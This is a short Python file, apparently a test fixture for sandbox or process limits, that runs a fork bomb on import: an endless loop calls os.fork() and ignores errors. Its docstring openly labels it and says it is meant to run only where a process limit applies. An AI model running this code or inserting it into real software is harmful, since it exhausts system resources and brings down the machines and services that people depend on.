# ruff: noqa: F821
"""Classic fork bomb at import time: every process forks forever (run only when RLIMIT_NPROC binds)."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def f():
    return None
